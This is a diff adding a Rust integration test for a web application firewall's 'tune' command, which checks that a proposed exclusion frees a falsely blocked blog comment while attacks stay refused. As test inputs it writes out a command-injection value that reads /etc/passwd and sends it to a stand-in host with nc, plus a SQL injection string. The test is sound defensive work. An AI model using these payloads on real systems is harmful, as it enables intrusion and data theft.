@@ -1,7 +1,15 @@
-//! `check` and `explain`.
+//! `check`, `explain` and `tune`.
 
 use std::fs;
 use std::process::{Command, Output};
+
+use serde_json::json;
+use testbed::PATIENCE;
+use testbed::client::Request;
+use testbed::wait::wait_until;
+
+use crate::envoy::Edge;
+use crate::house::Service;
 
 fn run(args: &[&str]) -> Output {
     Command::new(env!("CARGO_BIN_EXE_portcullis-waf")).args(args).output().unwrap()
@@ -116,4 +124,55 @@ fn a_request_is_explained() {
     assert!(said.contains("refused: 403 (rule)"), "{said}");
     let fine = explain(&format!("GET /cats HTTP/1.1\n{head}\n"));
     assert!(fine.status.success() && text(&fine.stdout).contains("passed"), "{}", text(&fine.stdout));
+}
+
+#[tokio::test]
+async fn a_false_match_is_tuned_away_and_attacks_stay_refused() {
+    let profile = "name: own\nextends: baseline\n";
+    let service = Service::start(&[("own.yaml", profile)], "defaultProfile: own\n").await;
+    let route = json!({ "name": "httproute/shop/blog/rule/0" });
+    let edge = Edge::with(&service, &json!({}), &route).await;
+    let send = async |path: &str, form: &str| {
+        let request = Request::post(&format!("http://shop.example{path}"), form.to_owned())
+            .to(edge.address)
+            .header("user-agent", "tests")
+            .header("accept", "*/*")
+            .header("content-type", "application/x-www-form-urlencoded");
+        request.send().await.unwrap().status.as_u16()
+    };
+    // What somebody writes about a file, and attacks: with the same words beside it, and elsewhere.
+    let (text, shell) =
+        ("comment=the+command+;+cat+/var/log/messages+shows+it", "comment=x;+cat+/etc/passwd+|+nc+a.example+1");
+    let both = format!("{text}&id=1%27%20OR%20%271%27%3D%271%27--%20-");
+    let all = [("/blog/1/comments", text), ("/blog/2/comments", text), ("/blog/3", &both), ("/blog/3", shell)];
+    for (path, form) in all {
+        assert_eq!(send(path, form).await, 403, "{form}");
+    }
+    wait_until("all entries", PATIENCE, async || service.entries().len() == all.len()).await.unwrap();
+    let output = run(&["tune", "--audit", service.audit_log().to_str().unwrap()]);
+    let said =
+        text_of_group(&text_of(&output), "rule 930120 on ARGS:comment, route httproute/shop/blog/rule/0: 4 requests");
+    // Of the recorded attacks it frees none.
+    assert!(said.contains("of these, 2 would no longer be refused\n"), "{said}");
+    let proposed: String = said
+        .lines()
+        .skip_while(|line| *line != "  exclusions:")
+        .take_while(|line| *line != "  as SecLang:")
+        .map(|line| format!("{}\n", &line[2..]))
+        .collect();
+    service.rewrite("own.yaml", &format!("{profile}{proposed}"));
+    wait_until("the exclusion", PATIENCE, async || send("/blog/1/comments", text).await == 200).await.unwrap();
+    for (path, form) in [("/blog/3", both.as_str()), ("/blog/3", shell), ("/shop", text)] {
+        assert_eq!(send(path, form).await, 403, "{path} {form}");
+    }
+}
+
+fn text_of(output: &Output) -> String {
+    text(&output.stdout) + &text(&output.stderr)
+}
+
+/// What is said of a group: up to an empty line.
+fn text_of_group(said: &str, first: &str) -> String {
+    let group = said.split("\n\n").find(|group| group.starts_with(first));
+    group.unwrap_or_else(|| panic!("no {first:?}: {said}")).to_owned() + "\n"
 }
